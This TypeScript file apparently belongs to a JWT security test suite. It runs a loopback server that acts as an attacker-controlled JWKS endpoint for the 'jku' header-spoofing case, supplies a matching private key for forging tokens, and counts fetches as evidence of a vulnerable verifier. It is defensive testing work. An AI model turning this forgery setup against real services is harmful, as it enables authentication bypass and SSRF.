/**
 * The attacker-controlled JWKS the `jku` case points at: a loopback server publishing the
 * attacker's public key. A correct verifier never fetches a key URL named by the token, so any
 * request reaching this server is itself a finding (and an SSRF vector); fetchCount() exposes it.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as base64url from 'jose/base64url';
import type { CryptoKey, JWK } from 'jose';
import { attackerKey } from '../tokens/forge-keys.js';

export interface AttackerJwks {
  /** http://127.0.0.1:PORT/.well-known/jwks.json (every GET path answers with the same JWKS). */
  readonly url: string;
  /** The attacker's public JWK as published (kid, alg RS256, use sig). */
  readonly jwk: JWK;
  /** The matching private key: tokens signed with it verify against `url`. */
  readonly privateKey: CryptoKey;
  /** How many requests reached the server since it started (0 for a correct target); only those whose path starts with `prefix`, when given. */
  fetchCount(prefix?: string): number;
  /** Method and path of each request, oldest first (evidence for the report). */
  fetches(): Array<{ method: string; path: string; at: string }>;
  stop(): Promise<void>;
}

export async function startAttackerJwks(options: { host?: string; port?: number } = {}): Promise<AttackerJwks> {
  const key = await attackerKey();
  const log: Array<{ method: string; path: string; at: string }> = [];
  const ownBody = JSON.stringify({ keys: [key.publicJwk] });
  const server: Server = createServer((req, res) => {
    const path = req.url ?? '/';
    log.push({ method: req.method ?? 'GET', path, at: new Date().toISOString() });
    const fromPath = jwkFromPath(path);
    res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' });
    res.end(fromPath ? JSON.stringify({ keys: [fromPath] }) : ownBody);
  });
  const host = options.host ?? '127.0.0.1';
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(options.port ?? 0, host, () => resolve());
  });
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://${host}:${port}/.well-known/jwks.json`,
    jwk: key.publicJwk,
    privateKey: key.privateKey,
    fetchCount: (prefix) => (prefix === undefined ? log.length : log.filter((f) => f.path.startsWith(prefix)).length),
    fetches: () => log.map((f) => ({ ...f })),
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const KEY_PATH = /^\/keys\/([A-Za-z0-9_-]+)\/(?:[A-Za-z0-9_-]+\/)?jwks\.json$/;

/**
 * The jku URL under which the attacker server at `attackerJwksUrl` publishes `jwk` (an RSA public
 * key). A `nonce` makes the URL one request's own, so concurrent requests' fetches are told apart.
 */
export function attackerJkuUrl(attackerJwksUrl: string, jwk: JWK, nonce?: string): string {
  const publicOnly = { kty: jwk.kty, n: jwk.n, e: jwk.e, kid: jwk.kid, alg: jwk.alg, use: jwk.use };
  return new URL(`/keys/${base64url.encode(JSON.stringify(publicOnly))}/${nonce ? `${nonce}/` : ''}jwks.json`, attackerJwksUrl).href;
}

/** The public RSA JWK encoded in a /keys/… path, or undefined (only public members are echoed). */
function jwkFromPath(path: string): JWK | undefined {
  const m = KEY_PATH.exec(path.split('?')[0] ?? '');
  if (!m) return undefined;
  try {
    const j = JSON.parse(new TextDecoder().decode(base64url.decode(m[1]!))) as JWK;
    if (j.kty !== 'RSA' || typeof j.n !== 'string' || typeof j.e !== 'string') return undefined;
    return { kty: 'RSA', n: j.n, e: j.e, kid: j.kid, alg: j.alg ?? 'RS256', use: 'sig' };
  } catch {
    return undefined;
  }
}
